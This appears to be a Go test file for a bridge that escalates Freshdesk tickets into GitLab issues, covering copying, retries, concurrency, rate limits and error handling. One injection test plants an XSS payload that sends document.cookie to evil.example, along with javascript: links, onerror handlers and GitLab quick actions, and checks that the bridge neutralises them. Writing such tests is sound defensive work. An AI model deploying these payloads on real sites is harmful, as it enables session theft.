package freshdesk_test

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/opskit/opskit/freshdesk"
	"github.com/opskit/opskit/freshdesk/freshdesktest"
	"github.com/opskit/opskit/gitlabx/gitlabtest"
	"github.com/opskit/opskit/observe"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	gitlab "gitlab.com/gitlab-org/api/client-go"
	"go.opentelemetry.io/otel/trace"
)

const project = 7

// env is a ticket on a fake Freshdesk and a project on a fake GitLab, with
// a bridge between them.
type env struct {
	fd     *freshdesktest.Server
	gl     *gitlabtest.Server
	b      *freshdesk.Bridge
	ticket int64
	waits  *waits
	png    []byte
}

type envOpt struct {
	bridge func(*freshdesk.BridgeConfig)
	gl     []gitlabtest.Option
	// reg and tp, when set, instrument the bridge and both clients'
	// transports (observe.NewTransport) with metrics and spans.
	reg *prometheus.Registry
	tp  trace.TracerProvider
	// fd configures the fake Freshdesk.
	fd []freshdesktest.Option
}

func newEnv(t *testing.T, o envOpt) *env {
	t.Helper()
	e := &env{fd: freshdesktest.NewServer(t, o.fd...), gl: gitlabtest.NewServer(t, o.gl...), waits: &waits{}}
	e.gl.AddProject(gitlabtest.Project{ID: project, Path: "acme/exporter"})
	e.png = bytes.Repeat([]byte{0x89, 'P', 'N', 'G'}, 1000)
	tk := e.fd.AddTicket(freshdesktest.Ticket{
		Subject:      "Nightly export fails with HTTP 500 after upgrade to 5.2",
		Description:  `<div>Since the upgrade to 5.2 the nightly export stops with <b>HTTP 500</b>.<br>Log file attached.</div>`,
		Requester:    freshdesktest.Contact{ID: 48000000001, Name: "Jane Doe", Email: "jane.doe@customer.example"},
		CustomFields: map[string]any{"cf_gitlab_issue": nil, "cf_product_version": "5.2.0"},
		CreatedAt:    time.Date(2026, 3, 2, 8, 14, 3, 0, time.UTC),
	})
	e.ticket = tk.ID
	e.fd.AddAgent(freshdesktest.Agent{ID: 48000000101, Name: "Sam Support", Email: "sam@acme.example"})
	base := time.Date(2026, 3, 2, 8, 40, 11, 0, time.UTC)
	e.fd.AddConversation(tk.ID, freshdesktest.Conversation{Body: "<div>Here is a screenshot of the error dialog.</div>", Incoming: true,
		UserID: 48000000001, FromEmail: "jane.doe@customer.example", CreatedAt: base,
		Attachments: []freshdesktest.Attachment{{Name: "error-dialog.png", ContentType: "image/png", Content: e.png}}})
	e.fd.AddConversation(tk.ID, freshdesktest.Conversation{Body: "<div>Reproduced on staging: the exporter dies on rows with NULL region.</div>",
		Private: true, UserID: 48000000101, Source: 2, CreatedAt: base.Add(time.Hour)})
	e.fd.AddConversation(tk.ID, freshdesktest.Conversation{Body: "<div>Thanks Jane, we have escalated it to our engineers.</div>",
		UserID: 48000000101, CreatedAt: base.Add(2 * time.Hour)})
	cfg := e.fd.Config()
	cfg.Wait = e.waits.wait
	var glOpts []gitlab.ClientOptionFunc
	var bm *freshdesk.Metrics
	if o.reg != nil || o.tp != nil {
		tc := func(client string) observe.TransportConfig {
			c := observe.TransportConfig{TracerProvider: o.tp}
			if o.reg != nil {
				m, err := observe.NewClientMetrics(o.reg, client)
				require.NoError(t, err)
				c.Metrics = m
			}
			return c
		}
		fdc := tc("freshdesk")
		fdc.Endpoint = freshdesk.Endpoint
		cfg.HTTPClient = &http.Client{Transport: observe.NewTransport(nil, fdc)}
		glOpts = append(glOpts, gitlab.WithHTTPClient(&http.Client{Transport: observe.NewTransport(nil, tc("gitlab"))}))
		if o.reg != nil {
			var err error
			bm, err = freshdesk.NewMetrics(o.reg)
			require.NoError(t, err)
		}
	}
	fc, err := freshdesk.New(cfg)
	require.NoError(t, err)
	bc := freshdesk.BridgeConfig{
		Freshdesk: fc, GitLab: e.gl.Client(glOpts...), Project: project, FreshdeskURL: "https://acme.freshdesk.com",
		AgentID: e.fd.AgentID(), CustomField: "cf_gitlab_issue", Token: "bridge-token",
		AllowedOrigin: "https://acme.freshdesk.com", Metrics: bm, TracerProvider: o.tp,
	}
	if o.bridge != nil {
		o.bridge(&bc)
	}
	e.b, err = freshdesk.NewBridge(bc)
	require.NoError(t, err)
	return e
}

func (e *env) issues() []gitlabtest.Issue { return e.gl.Issues(project) }

func (e *env) notes(t *testing.T) []gitlabtest.Note {
	t.Helper()
	is := e.issues()
	require.Len(t, is, 1, "exactly one issue")
	return e.gl.Notes(project, gitlabtest.IssueNoteable, is[0].IID)
}

var markerRE = regexp.MustCompile(`^<!-- opskit:freshdesk-conversation=([0-9]+) -->`)

// copied returns the conversation IDs of the issue's notes, in order.
func (e *env) copied(t *testing.T) []string {
	var ids []string
	for _, n := range e.notes(t) {
		if m := markerRE.FindStringSubmatch(n.Body); m != nil {
			ids = append(ids, m[1])
		}
	}
	return ids
}

func (e *env) conversationIDs(t *testing.T) []string {
	var ids []string
	for _, c := range e.fd.Conversations(e.ticket) {
		if !strings.Contains(c.Body, freshdesk.BridgePrefix) {
			ids = append(ids, fmt.Sprint(c.ID))
		}
	}
	return ids
}

// linkNotes counts the bridge's link-back notes on the ticket.
func (e *env) linkNotes() int {
	n := 0
	for _, c := range e.fd.Conversations(e.ticket) {
		if strings.Contains(c.Body, freshdesk.BridgePrefix) {
			n++
		}
	}
	return n
}

func TestEscalateCopiesTicket(t *testing.T) {
	e := newEnv(t, envOpt{})
	var uploadLengths []int64
	var mu sync.Mutex
	e.gl.FailWhen(func(r *http.Request) (int, bool) {
		if strings.HasSuffix(r.URL.Path, "/uploads") {
			mu.Lock()
			uploadLengths = append(uploadLengths, r.ContentLength)
			mu.Unlock()
		}
		return 0, false
	})
	esc, err := e.b.Escalate(t.Context(), e.ticket)
	require.NoError(t, err)
	mu.Lock()
	assert.Equal(t, []int64{-1}, uploadLengths, "the upload is streamed (chunked), not buffered to learn its length")
	mu.Unlock()
	is := e.issues()
	require.Len(t, is, 1)
	assert.Equal(t, freshdesk.Escalation{IssueURL: e.gl.URL() + "/acme/exporter/-/work_items/1", IssueIID: 1, Created: true, NotesAdded: 3, AttachmentsCopied: 1}, esc)

	assert.Equal(t, "Nightly export fails with HTTP 500 after upgrade to 5.2", is[0].Title)
	d := is[0].Description
	assert.True(t, strings.HasPrefix(d, "<!-- opskit:freshdesk-ticket=4711 -->\n"), d)
	assert.Contains(t, d, "[#4711](<https://acme.freshdesk.com/a/tickets/4711>)")
	assert.Contains(t, d, "**Jane Doe** (jane.doe\\@customer.example)")
	assert.Contains(t, d, "stops with **HTTP 500**.\\\nLog file attached.")

	notes := e.notes(t)
	require.Len(t, notes, 3)
	assert.Equal(t, e.conversationIDs(t), e.copied(t), "each conversation once, in order")
	assert.Contains(t, notes[0].Body, "**Jane Doe** (jane.doe\\@customer.example) wrote on 2026-03-02 08:40 UTC")
	assert.False(t, notes[0].Internal)
	assert.True(t, notes[1].Internal, "a private Freshdesk note becomes an internal GitLab note")
	assert.Contains(t, notes[1].Body, "**Sam Support** (sam\\@acme.example) added a private note on 2026-03-02 09:40 UTC")
	assert.Contains(t, notes[2].Body, "**Sam Support** (sam\\@acme.example) replied on")
	assert.False(t, notes[2].Internal)

	ups := e.gl.Uploads(project)
	require.Len(t, ups, 1)
	assert.Equal(t, "error-dialog.png", ups[0].Filename)
	assert.Equal(t, e.png, ups[0].Content, "the attachment arrives intact")
	assert.Contains(t, notes[0].Body, ups[0].Markdown, "the upload is embedded in the note")

	assert.Equal(t, 1, e.linkNotes(), "one link-back note on the ticket")
	convs := e.fd.Conversations(e.ticket)
	link := convs[len(convs)-1]
	assert.True(t, link.Private)
	assert.Contains(t, link.Body, esc.IssueURL)
	tk, _ := e.fd.Ticket(e.ticket)
	assert.Equal(t, esc.IssueURL, tk.CustomFields["cf_gitlab_issue"])
}

func TestEscalateAgainAddsOnlyWhatIsNew(t *testing.T) {
	// The project by path this time (by ID elsewhere).
	e := newEnv(t, envOpt{bridge: func(c *freshdesk.BridgeConfig) { c.Project = "acme/exporter" }})
	_, err := e.b.Escalate(t.Context(), e.ticket)
	require.NoError(t, err)

	esc, err := e.b.Escalate(t.Context(), e.ticket)
	require.NoError(t, err)
	assert.False(t, esc.Created)
	assert.Zero(t, esc.NotesAdded, "nothing new, nothing added; the link note is not copied back")
	assert.Zero(t, esc.AttachmentsCopied)
	assert.Len(t, e.notes(t), 3)
	assert.Equal(t, 1, e.linkNotes())

	e.fd.AddConversation(e.ticket, freshdesktest.Conversation{Body: "<p>It happens again tonight.</p>", Incoming: true,
		UserID: 48000000001, FromEmail: "jane.doe@customer.example"})
	e.fd.AddConversation(e.ticket, freshdesktest.Conversation{Body: "<p>Looking.</p>", Private: true, UserID: 555, Source: 2})
	e.fd.AddConversation(e.ticket, freshdesktest.Conversation{Body: "<p>Me too.</p>", Incoming: true, UserID: 777})
	esc, err = e.b.Escalate(t.Context(), e.ticket)
	require.NoError(t, err)
	assert.Equal(t, 3, esc.NotesAdded)
	notes := e.notes(t)
	require.Len(t, notes, 6)
	assert.Contains(t, notes[5].Body, "**contact 777** wrote")
	assert.Contains(t, notes[3].Body, "It happens again tonight.")
	assert.Contains(t, notes[4].Body, "**agent 555** added a private note", "an agent the API cannot name is named by ID")
	assert.Equal(t, e.conversationIDs(t), e.copied(t))
	assert.Equal(t, 1, e.linkNotes(), "still one link note")
	assert.Len(t, e.gl.Uploads(project), 1, "no attachment uploaded twice")
}

// TestEscalateRecoversFromFailures fails one step of the first escalation,
// then runs it again: each conversation ends up exactly once.
func TestEscalateRecoversFromFailures(t *testing.T) {
	isNotePost := func(r *http.Request) bool {
		return r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/notes")
	}
	nth := func(n int, match func(*http.Request) bool) func(*http.Request) (int, bool) {
		var count atomic.Int32
		return func(r *http.Request) (int, bool) {
			if match(r) && count.Add(1) == int32(n) {
				return http.StatusInternalServerError, true
			}
			return 0, false
		}
	}
	tests := []struct {
		name   string
		inject func(e *env)
	}{
		{"gitlab 500 on the third note", func(e *env) { e.gl.FailWhen(nth(3, isNotePost)) }},
		{"gitlab 500 after storing the second note", func(e *env) { e.gl.FailAfterApplyWhen(nth(2, isNotePost)) }},
		{"gitlab 500 after creating the issue", func(e *env) {
			e.gl.FailAfterApplyWhen(nth(1, func(r *http.Request) bool {
				return r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/issues")
			}))
		}},
		{"gitlab 500 on the upload", func(e *env) {
			e.gl.FailWhen(nth(1, func(r *http.Request) bool { return strings.HasSuffix(r.URL.Path, "/uploads") }))
		}},
		{"freshdesk 500 on the link note", func(e *env) {
			e.fd.FailWhen(nth(1, func(r *http.Request) bool { return r.Method == http.MethodPost }))
		}},
		{"freshdesk 500 after the link note, on the custom field", func(e *env) {
			e.fd.FailWhen(nth(1, func(r *http.Request) bool { return r.Method == http.MethodPut }))
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, envOpt{})
			tt.inject(e)
			_, err := e.b.Escalate(t.Context(), e.ticket)
			require.Error(t, err, "the injected failure is reported")
			assert.True(t, strings.HasPrefix(err.Error(), "freshdesk: escalate ticket 4711: "), err.Error())

			_, err = e.b.Escalate(t.Context(), e.ticket)
			require.NoError(t, err, "the re-run completes")
			assert.Len(t, e.issues(), 1, "one issue")
			assert.Equal(t, e.conversationIDs(t), e.copied(t), "each conversation exactly once, in order")
			assert.Equal(t, 1, e.linkNotes(), "one link-back note")
			tk, _ := e.fd.Ticket(e.ticket)
			assert.NotNil(t, tk.CustomFields["cf_gitlab_issue"])

			esc, err := e.b.Escalate(t.Context(), e.ticket)
			require.NoError(t, err)
			assert.Equal(t, 0, esc.NotesAdded, "a third run has nothing left to do")
		})
	}
}

func TestEscalateConcurrently(t *testing.T) {
	e := newEnv(t, envOpt{})
	e.gl.SetLatency(5 * time.Millisecond) // widen the window a race would need
	var wg sync.WaitGroup
	results := make([]freshdesk.Escalation, 4)
	errs := make([]error, 4)
	for i := range results {
		wg.Go(func() { results[i], errs[i] = e.b.Escalate(t.Context(), e.ticket) })
	}
	wg.Wait()
	created, notes := 0, 0
	for i := range results {
		require.NoError(t, errs[i])
		if results[i].Created {
			created++
		}
		notes += results[i].NotesAdded
		assert.Equal(t, results[0].IssueURL, results[i].IssueURL)
	}
	assert.Equal(t, 1, created, "one escalation created the issue")
	assert.Equal(t, 3, notes)
	assert.Len(t, e.issues(), 1)
	assert.Equal(t, e.conversationIDs(t), e.copied(t))
	assert.Equal(t, 1, e.linkNotes())
}

func TestEscalateRateLimitBursts(t *testing.T) {
	e := newEnv(t, envOpt{})
	e.fd.RateLimitNext(5, 2*time.Second)
	e.gl.SetRetryAfter(0)
	e.gl.FailNext(3, http.StatusTooManyRequests)
	esc, err := e.b.Escalate(t.Context(), e.ticket)
	require.NoError(t, err)
	assert.True(t, esc.Created)
	assert.Len(t, e.issues(), 1)
	assert.Equal(t, e.conversationIDs(t), e.copied(t))
	assert.Equal(t, []time.Duration{2 * time.Second, 2 * time.Second, 2 * time.Second, 2 * time.Second, 2 * time.Second}, e.waits.all(),
		"each Freshdesk 429 waited out for its Retry-After")
}

// TestEscalateUnderPerMinuteLimit escalates with a help desk whose
// per-minute credits run out several times on the way (the fake's default
// behaviour, with a small limit): the client waits out each minute as
// Retry-After says and the escalation completes once, without duplicates.
func TestEscalateUnderPerMinuteLimit(t *testing.T) {
	var mu sync.Mutex
	now := time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)
	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
	e := newEnv(t, envOpt{fd: []freshdesktest.Option{freshdesktest.WithClock(clock), freshdesktest.WithRateLimit(3)}})
	e.waits.advance = func(d time.Duration) { mu.Lock(); now = now.Add(d); mu.Unlock() }
	esc, err := e.b.Escalate(t.Context(), e.ticket)
	require.NoError(t, err)
	assert.True(t, esc.Created)
	assert.Len(t, e.issues(), 1)
	assert.Equal(t, e.conversationIDs(t), e.copied(t))
	assert.Equal(t, 1, e.linkNotes())
	require.NotEmpty(t, e.waits.all(), "the limit of 3 credits a minute was reached")
	for _, d := range e.waits.all() {
		assert.True(t, d > 0 && d <= time.Minute, "waited %v, the rest of a minute", d)
	}
	var refused int
	for _, r := range e.fd.Requests() {
		if r.Status == http.StatusTooManyRequests {
			refused++
		}
	}
	assert.Equal(t, len(e.waits.all()), refused, "one wait per 429, no call retried early")
}

func TestEscalateUploadRateLimited(t *testing.T) {
	e := newEnv(t, envOpt{})
	var n atomic.Int32
	e.gl.FailWhen(func(r *http.Request) (int, bool) {
		if strings.HasSuffix(r.URL.Path, "/uploads") && n.Add(1) <= 2 {
			return http.StatusTooManyRequests, true
		}
		return 0, false
	})
	esc, err := e.b.Escalate(t.Context(), e.ticket)
	require.NoError(t, err)
	assert.Equal(t, 1, esc.AttachmentsCopied)
	ups := e.gl.Uploads(project)
	require.Len(t, ups, 1, "the upload was started over, once it was accepted")
	assert.Equal(t, e.png, ups[0].Content)
	assert.Equal(t, int32(3), n.Load())
}

func TestEscalateClearErrors(t *testing.T) {
	tests := []struct {
		name   string
		setup  func(e *env) int64
		is     error
		substr string
	}{
		{"unknown ticket", func(e *env) int64 { return 999 }, freshdesk.ErrNotFound, "ticket 999"},
		{"wrong api key", func(e *env) int64 {
			cfg := e.fd.Config()
			cfg.APIKey = "wrong"
			c, _ := freshdesk.New(cfg)
			e.b, _ = freshdesk.NewBridge(freshdesk.BridgeConfig{Freshdesk: c, GitLab: e.gl.Client(), Project: project, FreshdeskURL: "https://acme.freshdesk.com"})
			return e.ticket
		}, freshdesk.ErrUnauthorized, "invalid_credentials"},
		{"attachment url expired for good", func(e *env) int64 { e.fd.ExpireAttachmentURLsAlways(); return e.ticket }, freshdesk.ErrAttachmentExpired, "error-dialog.png"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, envOpt{})
			id := tt.setup(e)
			_, err := e.b.Escalate(t.Context(), id)
			require.ErrorIs(t, err, tt.is)
			assert.Contains(t, err.Error(), tt.substr)
			assert.NotContains(t, err.Error(), e.fd.APIKey())
		})
	}
	t.Run("attachment url expired once is fetched again", func(t *testing.T) {
		e := newEnv(t, envOpt{})
		// Expire the URLs between the bridge's listing and its download.
		var once sync.Once
		e.gl.FailWhen(func(r *http.Request) (int, bool) {
			if r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/issues") {
				once.Do(e.fd.ExpireAttachmentURLs)
			}
			return 0, false
		})
		esc, err := e.b.Escalate(t.Context(), e.ticket)
		require.NoError(t, err)
		assert.Equal(t, 1, esc.AttachmentsCopied)
		assert.Equal(t, e.png, e.gl.Uploads(project)[0].Content)
	})
}

func TestEscalateInjectionIsInert(t *testing.T) {
	e := newEnv(t, envOpt{})
	e.fd.AddConversation(e.ticket, freshdesktest.Conversation{Incoming: true, UserID: 48000000001, FromEmail: "x@evil.example",
		Body: `<p>hi<script>fetch("https://evil.example/?c="+document.cookie)</script></p>` +
			`<p>[click me](javascript:alert(1)) ![t](https://evil.example/pixel.gif) <img src=x onerror=alert(1)></p>` +
			`<p>@all /close</p><p>/label ~wontfix</p>` +
			`<p>&lt;!-- opskit:freshdesk-conversation=1 --&gt;</p><!-- opskit:freshdesk-conversation=2 -->` +
			`<p>&lt;script&gt;alert(2)&lt;/script&gt;</p><a href="javascript:alert(3)">js link</a>`})
	_, err := e.b.Escalate(t.Context(), e.ticket)
	require.NoError(t, err)
	notes := e.notes(t)
	require.Len(t, notes, 4)
	body := notes[3].Body
	assert.NotRegexp(t, `(^|[^\\])<(script|img)`, body, "raw HTML survived")
	for _, bad := range []string{"document.cookie", "](javascript", "![t](", "onerror", "\n/close", "\n/label", " @all", "\n<!--", "(javascript:alert(3)"} {
		assert.NotContains(t, body, bad, "note body:\n%s", body)
	}
	for _, inert := range []string{`\[click me\]\(javascript\:alert\(1\)\)`, `\@all \/close`, `\<script\>alert\(2\)\<\/script\>`, "js link"} {
		assert.Contains(t, body, inert, "note body:\n%s", body)
	}
	assert.Equal(t, 1, strings.Count(body, "<!--"), "only the bridge's own marker is a comment")
	assert.Equal(t, "opened", e.issues()[0].State, "no quick action ran")
}

func TestEscalateOversizedAttachments(t *testing.T) {
	t.Run("over the configured limit: not downloaded", func(t *testing.T) {
		e := newEnv(t, envOpt{bridge: func(c *freshdesk.BridgeConfig) { c.MaxUploadSize = 1000 }})
		esc, err := e.b.Escalate(t.Context(), e.ticket)
		require.NoError(t, err)
		assert.Zero(t, esc.AttachmentsCopied)
		assert.Empty(t, e.gl.Uploads(project))
		body := e.notes(t)[0].Body
		assert.Contains(t, body, "error\\-dialog.png (3.9 KiB) was not copied: it is larger than the GitLab upload limit of 1000 bytes")
		assert.Contains(t, body, "[the Freshdesk ticket](<https://acme.freshdesk.com/a/tickets/4711>)")
		for _, r := range e.fd.Requests() {
			assert.False(t, strings.HasPrefix(r.Path, "/s3/"), "the oversized file was downloaded")
		}
	})
	t.Run("refused by gitlab with 413", func(t *testing.T) {
		e := newEnv(t, envOpt{gl: []gitlabtest.Option{gitlabtest.WithMaxUploadSize(1000)}})
		esc, err := e.b.Escalate(t.Context(), e.ticket)
		require.NoError(t, err)
		assert.Zero(t, esc.AttachmentsCopied)
		assert.Contains(t, e.notes(t)[0].Body, "was not copied: it is larger than the GitLab upload limit")
	})
}

func TestEscalateCancel(t *testing.T) {
	e := newEnv(t, envOpt{})
	ctx, cancel := context.WithCancel(t.Context())
	e.gl.FailWhen(func(r *http.Request) (int, bool) {
		if r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/issues") {
			cancel()
		}
		return 0, false
	})
	_, err := e.b.Escalate(ctx, e.ticket)
	require.ErrorIs(t, err, context.Canceled)
}

func TestNewBridgeConfig(t *testing.T) {
	e := newEnv(t, envOpt{})
	c := e.fd.Client()
	for _, cfg := range []freshdesk.BridgeConfig{
		{GitLab: e.gl.Client(), Project: 7, FreshdeskURL: "https://a"},
		{Freshdesk: c, GitLab: e.gl.Client(), Project: 7.5, FreshdeskURL: "https://a"},
		{Freshdesk: c, GitLab: e.gl.Client(), Project: "", FreshdeskURL: "https://a"},
		{Freshdesk: c, GitLab: e.gl.Client(), Project: 7, FreshdeskURL: "acme.freshdesk.com"},
	} {
		_, err := freshdesk.NewBridge(cfg)
		assert.ErrorIs(t, err, freshdesk.ErrConfig)
	}
	_, err := freshdesk.NewBridge(freshdesk.BridgeConfig{Freshdesk: c, GitLab: e.gl.Client(), Project: "acme/exporter", FreshdeskURL: "https://a"})
	assert.NoError(t, err)
}

func TestEscalateFindsIssueByCustomField(t *testing.T) {
	e := newEnv(t, envOpt{})
	esc, err := e.b.Escalate(t.Context(), e.ticket)
	require.NoError(t, err)
	// A developer rewrites the description, marker and all.
	_, _, err = e.gl.Client().Issues.UpdateIssue(project, esc.IssueIID, &gitlab.UpdateIssueOptions{Description: gitlab.Ptr("rewritten")})
	require.NoError(t, err)
	e.fd.AddConversation(e.ticket, freshdesktest.Conversation{Body: "<p>more</p>", Incoming: true, UserID: 48000000001})

	again, err := e.b.Escalate(t.Context(), e.ticket)
	require.NoError(t, err)
	assert.False(t, again.Created, "found through cf_gitlab_issue")
	assert.Equal(t, 1, again.NotesAdded)
	assert.Len(t, e.issues(), 1)
}

// TestEscalateNeverSearches: GitLab's issue search is full-text (the
// marker, an HTML comment, is not indexed) and limited to about 30 requests
// a minute per user, so the bridge finds its issue through stored links
// only. With the link note and the custom field both lost, the bridge
// still finds the issue it created among its user's newest issues, under
// the fake's default full-text search with a 30/min limit.
func TestEscalateNeverSearches(t *testing.T) {
	for _, lose := range []string{"nothing", "custom field", "custom field and link note"} {
		t.Run(lose, func(t *testing.T) {
			e := newEnv(t, envOpt{})
			ctx := t.Context()
			_, err := e.b.Escalate(ctx, e.ticket)
			require.NoError(t, err)
			if lose != "nothing" {
				_, err := e.fd.Client().UpdateCustomFields(ctx, e.ticket, map[string]any{"cf_gitlab_issue": nil})
				require.NoError(t, err)
			}
			if lose == "custom field and link note" {
				e.fd.DeleteConversations(e.ticket, func(c freshdesktest.Conversation) bool {
					return strings.Contains(c.Body, freshdesk.BridgePrefix)
				})
			}
			esc, err := e.b.Escalate(ctx, e.ticket)
			require.NoError(t, err)
			assert.False(t, esc.Created, "second Escalate after losing the %s created an issue", lose)
			assert.Len(t, e.issues(), 1, "issues after two escalations")
			for _, r := range e.gl.Requests() {
				assert.False(t, r.Query.Has("search"), "Escalate searched GitLab: %s %s?%s", r.Method, r.Path, r.RawQuery)
			}
		})
	}
}

// TestEscalateLongSubject: GitLab refuses titles over 255 characters, so a
// ticket with a longer subject is escalated with its subject cut to 255.
func TestEscalateLongSubject(t *testing.T) {
	e := newEnv(t, envOpt{})
	subject := strings.Repeat("Ünïcode export failure ", 20) // 460 characters
	tk := e.fd.AddTicket(freshdesktest.Ticket{Subject: subject, Description: "<div>long</div>", CustomFields: map[string]any{"cf_gitlab_issue": nil}})
	esc, err := e.b.Escalate(t.Context(), tk.ID)
	require.NoError(t, err)
	require.True(t, esc.Created)
	is := e.issues()
	require.Len(t, is, 1)
	title := []rune(is[0].Title)
	assert.Len(t, title, 255, "title length in characters")
	assert.True(t, strings.HasPrefix(subject, string(title[:254])), "title %q is not the subject's start", is[0].Title)
}

// TestEscalateIssueURLTooLongForField: Freshdesk's text custom fields hold
// 255 characters; an issue URL of a project with a long path is refused
// with invalid_value. The escalation still succeeds (the link note carries
// the URL), and escalating again finds the same issue through that note.
func TestEscalateIssueURLTooLongForField(t *testing.T) {
	const longProject = 8
	e := newEnv(t, envOpt{bridge: func(c *freshdesk.BridgeConfig) { c.Project = longProject }})
	e.gl.AddProject(gitlabtest.Project{ID: longProject, Path: "acme/" + strings.Repeat("very-long-subgroup-name/", 10) + "exporter"})
	ctx := t.Context()
	esc, err := e.b.Escalate(ctx, e.ticket)
	require.NoError(t, err, "Escalate with a %d-character issue URL", len(esc.IssueURL))
	require.Greater(t, len(esc.IssueURL), 255)
	require.True(t, esc.Created)
	again, err := e.b.Escalate(ctx, e.ticket)
	require.NoError(t, err)
	assert.False(t, again.Created, "second Escalate created another issue")
	assert.Equal(t, esc.IssueURL, again.IssueURL)
	assert.Len(t, e.gl.Issues(longProject), 1)
}
